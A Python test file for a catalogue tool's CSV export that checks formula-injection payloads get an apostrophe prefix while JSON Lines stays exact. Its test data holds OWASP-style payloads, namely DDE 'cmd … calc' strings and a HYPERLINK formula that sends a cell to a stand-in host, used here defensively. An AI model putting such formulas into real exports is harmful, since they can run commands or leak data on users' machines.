"""CSV exports are safe to open in a spreadsheet; JSON Lines and Parquet stay exact.

The rule (OWASP's, against CSV injection) is tested as a pure function; then through
the real command line: real LoC records, loaded by the real ingest, exported by
`shelfmap export` in a child process and read back with the csv module.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from ingest import export, marc, schema, splits

from .conftest import LOC_10000, TEST_ES_PORT

CLI = Path(sys.executable).with_name("shelfmap")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


# --- the rule --------------------------------------------------------------------------

@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://example.invalid/?"&A2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "=",
    "-- And the high places I'll bring down",       # DLC:00273700's title, as catalogued
])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(cell):
    assert export.neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", [
    "", "Korea (North) -- History", "한국 경제", "1+1", "'=already quoted",
    "Smith, John; =HYPERLINK(\"x\")",   # a formula after the first character is text
    " =1+2",                            # OWASP's list has no space; left as it is
    "\n=1+2",
])
def test_other_cells_are_unchanged(cell):
    assert export.neutralise(cell) == cell


def _every_text_field(value: str) -> dict:
    record = schema.empty_record()
    for field in schema.RECORD:
        if field.name in schema.LIST_FIELDS:
            record[field.name] = [value, "plain second item"]
        elif field.name in ("year", "year_end"):
            record[field.name] = -500
        else:
            record[field.name] = value
    return record


def test_every_text_field_of_the_schema_is_neutralised_and_numbers_are_not():
    cells = dict(zip(schema.FIELDS, export.csv_row(_every_text_field("=1+2"))))
    numbers = {name: cells.pop(name) for name in ("year", "year_end")}
    assert numbers == {"year": -500, "year_end": -500}
    assert len(cells) == len(schema.FIELDS) - 2
    for name, cell in cells.items():
        expected = "'=1+2; plain second item" if name in schema.LIST_FIELDS else "'=1+2"
        assert cell == expected, name


def test_raw_rows_are_as_catalogued():
    record = _every_text_field("@SUM(1+1)")
    cells = dict(zip(schema.FIELDS, export.csv_row(record, raw=True)))
    assert cells["title"] == "@SUM(1+1)"
    assert cells["authors"] == "@SUM(1+1); plain second item"
    assert cells["year"] == -500


def test_list_cells_are_joined_before_the_rule_is_applied():
    record = schema.empty_record()
    record.update(authors=["Kim, Il-sung, 1912-1994", "=cmd|' /C calc'!A0"],
                  subjects=["-Korea", "History"], isbn=[])
    cells = dict(zip(schema.FIELDS, export.csv_row(record)))
    # The cell begins with the first item: only a dangerous first item makes it unsafe.
    assert cells["authors"] == "Kim, Il-sung, 1912-1994; =cmd|' /C calc'!A0"
    assert cells["subjects"] == "'-Korea; History"
    assert cells["isbn"] == "" and cells["title"] == "" and cells["year"] == ""


# --- through the command line ----------------------------------------------------------

# What each dangerous character starts: payloads of the kind OWASP's page shows.
PAYLOADS = {
    "=": '=HYPERLINK("http://example.invalid/?leak="&A2,"Open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+2",
    "\r": "\r+1+2",
}
EDITED_FIELDS = ("title", "authors", "subjects", "publisher")
# A real record whose title, as LoC catalogued it, begins with "-".
DASH_TITLE = "DLC:00273700"


def _shelfmap(home: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "SHELFMAP_HOME": str(home),
           "SHELFMAP_ES_PORT": str(TEST_ES_PORT), "SHELFMAP_SPARK_DRIVER_MEMORY": "1g"}
    for name in ("JAVA_HOME", "SHELFMAP_CACHE"):
        if name in os.environ:
            env[name] = os.environ[name]
    return subprocess.run([str(CLI), *args], env=env, capture_output=True, text=True,
                          timeout=600)


def _ok(done: subprocess.CompletedProcess) -> subprocess.CompletedProcess:
    assert done.returncode == 0, done.stderr[-2000:]
    return done


def _jsonl(path: Path) -> dict[str, dict]:
    records = (json.loads(line) for line in path.read_text(encoding="utf-8").splitlines())
    return {r["id"]: r for r in records}


def _csv(path: Path) -> dict[str, dict]:
    with open(path, encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    return {row["id"]: row for row in rows}


def _as_written(value) -> str:
    """A catalogue value as a CSV cell reads back, before any neutralising."""
    if isinstance(value, list):
        return "; ".join(value)
    return "" if value is None else str(value)


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """Real LoC records, exported as JSON Lines by the real pipeline, their titles,
    first author, first subject and publisher edited to begin with each dangerous
    character, ingested again with --format jsonl, then exported as CSV (default and
    --raw) and as JSON Lines (what the catalogue holds)."""
    work = tmp_path_factory.mktemp("export")
    chosen = []
    for _, raw in splits.read_file(str(LOC_10000)):
        if len(chosen) < 12 or (b"00273700" in raw and marc.map_raw(raw)["id"] == DASH_TITLE):
            chosen.append(raw)
        if len(chosen) > 12:
            break
    source = work / "loc.mrc"
    source.write_bytes(b"".join(chosen))
    first, second = work / "first", work / "second"
    _ok(_shelfmap(first, "ingest", str(source), "--no-index-update"))
    _ok(_shelfmap(first, "export", "--format", "jsonl", "--out", str(work / "loc.jsonl")))
    real = list(_jsonl(work / "loc.jsonl").values())
    assert DASH_TITLE in {r["id"] for r in real} and len(real) == 13

    edited: dict[str, str] = {}          # id -> the dangerous character its fields begin with
    candidates = (r for r in real if r["authors"] and r["subjects"] and r["publisher"]
                  and r["id"] != DASH_TITLE)
    for char, record in zip(PAYLOADS, candidates):
        payload = PAYLOADS[char]
        record["title"] = f"{payload} {record['title']}"
        record["authors"][0] = f"{payload} {record['authors'][0]}"
        record["subjects"][0] = f"{payload} {record['subjects'][0]}"
        record["publisher"] = f"{payload} {record['publisher']}"
        edited[record["id"]] = char
    assert len(edited) == len(PAYLOADS)
    with open(work / "edited.jsonl", "w", encoding="utf-8") as f:
        for record in real:
            f.write(json.dumps(record, ensure_ascii=False) + "\n")

    _ok(_shelfmap(second, "ingest", str(work / "edited.jsonl"), "--format", "jsonl",
                  "--no-index-update"))
    safe = _ok(_shelfmap(second, "export", "--format", "csv", "--out", str(work / "safe.csv")))
    raw = _ok(_shelfmap(second, "export", "--format", "csv", "--raw",
                        "--out", str(work / "raw.csv")))
    _ok(_shelfmap(second, "export", "--format", "jsonl", "--out", str(work / "held.jsonl")))
    return {"edited": edited, "held": _jsonl(work / "held.jsonl"),
            "safe": _csv(work / "safe.csv"), "raw": _csv(work / "raw.csv"),
            "safe_stderr": safe.stderr, "raw_stderr": raw.stderr, "home": second,
            "work": work}



@pytest.mark.spark
def test_the_edited_records_hold_their_formulas(exported):
    # The ingest keeps every payload; it strips a value's leading whitespace, so the
    # tab and carriage return go and the = or + behind them begins the value.
    for record_id, char in exported["edited"].items():
        record = exported["held"][record_id]
        start = PAYLOADS[char].lstrip("\t\r")
        assert record["title"].startswith(start)
        assert record["authors"][0].startswith(start)
        assert record["subjects"][0].startswith(start)
        assert record["publisher"].startswith(start)


@pytest.mark.spark
def test_csv_cells_of_dangerous_fields_begin_with_an_apostrophe(exported):
    safe, held = exported["safe"], exported["held"]
    assert set(safe) == set(held)
    for record_id in exported["edited"]:
        row, record = safe[record_id], held[record_id]
        for name in EDITED_FIELDS:
            assert row[name] == "'" + _as_written(record[name]), (record_id, name)
        # Fields made from the edited ones begin with the formula too, and are guarded.
        assert row["folded"].startswith("'")
    assert safe[DASH_TITLE]["title"] == (
        "'-- And the high places I'll bring down : Bishop William L. Bonner, the man and "
        "his God")


@pytest.mark.spark
def test_every_other_cell_is_exactly_the_catalogue(exported):
    safe, held = exported["safe"], exported["held"]
    guarded = 0
    for record_id, record in held.items():
        for name in schema.FIELDS:
            value = _as_written(record[name])
            if value.startswith(DANGEROUS):
                assert safe[record_id][name] == "'" + value, (record_id, name)
                guarded += 1
            else:
                assert safe[record_id][name] == value, (record_id, name)
    assert guarded >= len(exported["edited"]) * len(EDITED_FIELDS) + 1
    untouched = set(held) - set(exported["edited"]) - {DASH_TITLE}
    assert len(untouched) == 6
    for record_id in untouched:
        assert safe[record_id] == exported["raw"][record_id]


@pytest.mark.spark
def test_years_are_not_mangled(exported):
    years = {i: r["year"] for i, r in exported["held"].items()}
    assert sum(y is not None for y in years.values()) >= 10
    for record_id, year in years.items():
        assert exported["safe"][record_id]["year"] == ("" if year is None else str(year))


@pytest.mark.spark
def test_raw_gives_the_catalogue_back_with_a_warning(exported):
    raw, held = exported["raw"], exported["held"]
    for record_id, record in held.items():
        assert raw[record_id] == {name: _as_written(record[name]) for name in schema.FIELDS}
    assert raw[DASH_TITLE]["title"].startswith("-- And")
    warning = [line for line in exported["raw_stderr"].splitlines()
               if line.startswith("warning:")]
    assert len(warning) == 1 and "formulas" in warning[0]
    assert "warning" not in exported["safe_stderr"]


@pytest.mark.spark
def test_raw_is_for_csv_only(exported):
    done = _shelfmap(exported["home"], "export", "--format", "jsonl", "--raw",
                     "--out", str(exported["work"] / "never.jsonl"))
    assert done.returncode == 2
    assert done.stderr.strip().splitlines() == [
        "error: a raw export is CSV only (--raw goes with --format csv): jsonl exports "
        "are always exact"]
    assert not (exported["work"] / "never.jsonl").exists()
